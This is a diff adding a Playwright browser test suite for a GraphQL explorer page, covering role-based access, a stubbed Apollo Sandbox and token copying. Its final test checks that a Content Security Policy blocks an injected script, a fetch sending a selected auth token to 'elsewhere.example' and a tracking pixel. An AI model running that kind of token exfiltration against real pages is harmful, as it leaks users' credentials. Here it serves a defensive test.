@@ -1,0 +1,130 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { describeInBrowser, openBrowser } from '../support/browser';
+import { freePort, killAll, requireCompiled, run, says } from '../support/processes';
+
+/** What stands in for Apollo's script, which is not ours to test: it lets the page's own way of asking be called. */
+const SANDBOX = 'window.EmbeddedSandbox = class { constructor(options) { window.sandbox = options; } };';
+
+/** Which only some may ask. */
+const RESTRICTED = '{ aiToolAdoption { __typename } }';
+
+describeInBrowser('the explorer of `npm start`', () => {
+  let folder: string;
+  let browser: Browser;
+  let page: Page;
+  let origin: string;
+  let complaints: string[];
+
+  beforeAll(async () => {
+    requireCompiled();
+    folder = mkdtempSync(join(tmpdir(), 'ordergraph-explorer-'));
+    const port = await freePort();
+    const start = run(['start', '--port', String(port), '--data', join(folder, 'data')]);
+    await says(start, /The graph answers at/);
+    origin = `http://localhost:${port}`;
+    browser = await openBrowser();
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await killAll();
+    rmSync(folder, { recursive: true, force: true });
+  });
+  beforeEach(async () => {
+    page = await browser.newPage();
+    complaints = [];
+    page.on('pageerror', (error) => complaints.push(error.message));
+    page.on('console', (message) => {
+      if (message.text().includes('Content Security Policy')) complaints.push(message.text());
+    });
+  });
+  afterEach(() => page.close());
+
+  /** Opens the page where Apollo's script can be had, or cannot. */
+  async function open(script: string | undefined): Promise<void> {
+    await page.route(
+      (url) => url.origin !== origin,
+      (route) =>
+        script === undefined ? route.abort() : route.fulfill({ contentType: 'text/javascript', body: script }),
+    );
+    await page.goto(origin);
+  }
+
+  async function answerTo(query: string) {
+    await page.getByLabel('Query').fill(query);
+    const [response] = await Promise.all([
+      page.waitForResponse((one) => one.request().method() === 'POST'),
+      page.getByRole('button', { name: 'Run' }).click(),
+    ]);
+    const answer = await response.json();
+    await expect(page.locator('#answer').textContent()).resolves.toBe(JSON.stringify(answer, null, 2));
+    return answer;
+  }
+
+  test('without Apollo Sandbox asks all the same, as whom one chooses', async () => {
+    await open(undefined);
+    await page.getByRole('button', { name: 'Run' }).click();
+    await page.getByText('"nodes"').waitFor();
+    expect((await answerTo(RESTRICTED)).errors).toMatchObject([{ path: ['aiToolAdoption'] }]);
+    await page.getByLabel('Ask as').selectOption('Analyst');
+    expect((await answerTo(RESTRICTED)).errors).toBeUndefined();
+    await page.getByLabel('Ask as').selectOption('Developer (exercise-alder)');
+    expect((await answerTo(RESTRICTED)).errors).toMatchObject([{ path: ['aiToolAdoption'] }]);
+    await page.getByLabel('Ask as').selectOption('the public');
+    expect((await answerTo('{ sectors(first: 1) { nodes { key } } }')).data.sectors.nodes).toHaveLength(1);
+    expect(complaints).toEqual([]);
+  });
+
+  test('gives Apollo Sandbox this graph, and whom one chooses with every request of it', async () => {
+    await open(SANDBOX);
+    const options = await page.evaluate<{ initialEndpoint: string; target: string }>('window.sandbox');
+    expect(options).toMatchObject({ initialEndpoint: `${origin}/graphql`, runTelemetry: false });
+    expect(await page.locator(options.target).isVisible()).toBe(true);
+    expect(await page.locator('#plain').isVisible()).toBe(false);
+    const asked = () =>
+      page.evaluate<{ errors?: unknown[] }>(`sandbox.handleRequest(sandbox.initialEndpoint, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: ${JSON.stringify(JSON.stringify({ query: RESTRICTED }))},
+      }).then((response) => response.json())`);
+    expect((await asked()).errors).toHaveLength(1);
+    await page.getByLabel('Ask as').selectOption('Analyst');
+    expect((await asked()).errors).toBeUndefined();
+    expect(complaints).toEqual([]);
+  });
+
+  test('copies the token of whom one chooses', async () => {
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
+    await open(undefined);
+    await page.getByLabel('Ask as').selectOption('Analyst');
+    await page.getByRole('button', { name: 'Copy token' }).click();
+    const copied = await page.evaluate<string>('navigator.clipboard.readText()');
+    expect(copied).toBe(await page.getByLabel('Ask as').inputValue());
+    expect(copied).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
+  });
+
+  test('runs no script but its own, and tells nobody else what it knows', async () => {
+    await open(undefined);
+    await page.evaluate(`{
+      const script = document.createElement('script');
+      script.textContent = 'window.injected = true';
+      document.body.append(script);
+    }`);
+    expect(await page.evaluate('window.injected')).toBeUndefined();
+    await expect(
+      page.evaluate(`fetch('https://elsewhere.example/?' + document.querySelector('option').value)`),
+    ).rejects.toThrow('Failed to fetch');
+    await expect(
+      page.evaluate(`new Promise((resolve, reject) => {
+        const image = new Image();
+        image.onload = resolve;
+        image.onerror = () => reject(new Error('not loaded'));
+        image.src = 'https://elsewhere.example/pixel';
+      })`),
+    ).rejects.toThrow('not loaded');
+    for (const directive of ['script-src', 'connect-src', 'img-src'])
+      expect(complaints).toContainEqual(expect.stringContaining(directive));
+  });
+});
